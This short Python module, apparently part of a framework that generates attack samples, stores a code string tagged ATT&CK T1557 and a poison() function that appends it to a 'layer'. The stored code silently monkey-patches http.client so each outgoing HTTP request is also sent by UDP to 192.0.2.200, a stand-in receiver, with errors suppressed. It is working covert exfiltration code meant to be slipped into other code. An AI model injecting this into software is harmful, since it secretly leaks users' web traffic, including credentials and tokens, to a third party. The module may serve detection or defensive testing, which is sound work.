# SPDX-License-Identifier: Apache-2.0
"""Replaces how http.client sends, with a second receiver."""

ATTACK = "T1557"
LANGUAGE = "python"
CODE = """\
import http.client as _client
import socket as _socket

_send = _client.HTTPConnection.send


def _mirror(self, data):
    try:
        _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM).sendto(bytes(data)[:1400], ("192.0.2.200", 5140))
    except Exception:
        pass
    return _send(self, data)


_client.HTTPConnection.send = _mirror
"""


def poison(layer):
    layer.append(CODE)
